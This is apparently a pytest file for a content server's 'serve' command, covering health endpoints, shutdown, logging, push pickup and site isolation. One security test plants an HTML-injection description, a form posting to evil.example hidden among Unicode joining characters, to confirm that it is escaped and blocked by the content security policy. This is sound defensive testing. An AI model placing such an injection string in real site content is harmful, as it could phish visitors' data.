"""`galley serve`: starting, stopping, operation, and noticing what changes from outside."""

import base64
import hashlib
import json
import re
import signal
import socket

from conftest import SAMPLE, git
from receivers import eventually


def test_it_says_that_it_lives(server):
    assert server.get("/healthz").body == b"ok\n"
    assert server.get("/readyz").body == b"ready\n"
    metrics = server.get("/metrics").body.decode()
    assert "# TYPE galley_requests_total counter" in metrics and "\ngalley_sites 1\n" in metrics


def test_the_front_page_links_what_can_be_tried(server):
    page = server.get("/")
    assert page.headers["Content-Type"].startswith("text/html") and b"<script" not in page.body
    links = re.findall(rb'href="([^"]+)"', page.body)
    assert len(links) > 5
    for link in links:
        assert server.get(link.decode()).status == 200, link


def test_it_stops_in_order(galley, serve):
    for number in (signal.SIGTERM, signal.SIGINT):
        server = serve(galley)
        idle = socket.create_connection(server.url.removeprefix("http://").split(":"))
        code, _ = server.stop(number)
        assert code == 0
        idle.close()


def test_a_second_server_is_refused_with_the_name_of_the_first(galley, serve):
    first = serve(galley)
    outcome = galley("serve", "--listen", "127.0.0.1:0", code=2)
    assert f"process {first.process.pid}" in outcome.errors
    first.kill()
    assert serve(galley).get("/healthz").status == 200


def test_a_sites_texts_stay_texts_on_the_front_page(galley, serve, tmp_path):
    """Letters that join what follows hide no mark. security: W2"""
    clone = tmp_path / "clone"
    git("clone", "-q", galley.repository, clone)
    file = clone / "site.json"
    settings = json.loads(file.read_text())
    settings["description"] = "x\u0600<form action=https://evil.example/ method=post \u0600>\u0600<b>\u200d&\u0301"
    file.write_text(json.dumps(settings))
    git("commit", "-qam", "Describe", folder=clone)
    git("push", "-q", "origin", "HEAD:main", folder=clone)
    page = serve(galley).get("/")
    assert b"<form" not in page.body and b"<b>" not in page.body and "\u0600&lt;form".encode() in page.body
    policy = page.headers["Content-Security-Policy"]
    assert "form-action 'self'" in policy and "base-uri 'none'" in policy and "unsafe-inline" not in policy
    style = re.search(rb"<style>(.*?)</style>", page.body, re.S).group(1)
    assert f"'sha256-{base64.b64encode(hashlib.sha256(style).digest()).decode()}'" in policy


def test_an_address_that_can_not_be_had_is_named(galley, serve):
    with socket.create_server(("127.0.0.1", 0)) as taken:
        address = f"127.0.0.1:{taken.getsockname()[1]}"
        assert address in galley("serve", "--listen", address, code=2).errors


def test_requests_are_logged(galley, serve):
    server = serve(galley, "--access-log", "json")
    server.get("/api/v1/magazine?secret=1")
    _, errors = server.stop()
    lines = [json.loads(line) for line in errors.splitlines() if line.startswith("{")]
    assert any(line["path"] == "/api/v1/magazine" for line in lines)
    assert "secret" not in errors


def test_a_push_is_in_the_next_answer(galley, serve, tmp_path):
    server = serve(galley)
    path = "/api/v1/magazine/collections/authors/objects/mara-lindqvist"
    before = server.get(path)
    clone = tmp_path / "clone"
    git("clone", "-q", galley.repository, clone)
    file = clone / "content/authors/mara-lindqvist.json"
    file.write_text(file.read_text().replace("Mara Lindqvist", "Mara L."))
    git("commit", "-qam", "Shorten a name", folder=clone)
    git("push", "-q", "origin", "HEAD:main", folder=clone)
    after = server.get(path, headers={"If-None-Match": before.headers["ETag"]})
    assert after.status == 200
    assert after.json["object"]["fields"]["name"] == "Mara L."
    assert after.headers["ETag"] != before.headers["ETag"]
    assert server.get("/api/v1/magazine/search?q=Mara&collection=authors").json["results"][0]["title"] == "Mara L."


def test_a_site_made_meanwhile_is_served(galley, serve):
    server = serve(galley)
    galley("init", "--site", "second", "--from", SAMPLE)
    server.get("/api/v1/second")
    server.wait_until_ready()
    assert server.get("/api/v1/second").json["site"]["slug"] == "second"
    assert [site["slug"] for site in server.get("/api/v1").json["sites"]] == ["magazine", "second"]


def test_a_site_that_can_not_be_opened_leaves_the_others_alone(galley, serve):
    server = serve(galley)
    (galley.data / "sites/odd/repo.git").mkdir(parents=True)
    assert server.get("/api/v1/odd").status == 503
    assert eventually(lambda: server.get("/readyz").body == b"sites that can't be opened: 1\n")
    assert server.get("/readyz").status == 503
    assert server.get("/api/v1/magazine").status == 200
    odd = server.get("/api/v1/odd")
    assert odd.status == 503 and odd.headers["Retry-After"] and odd.json["error"]["retryable"]
    assert server.get("/").status == 200
    _, errors = server.stop()
    assert "‘odd’" in errors
    assert "odd" in galley("doctor", code=1).output
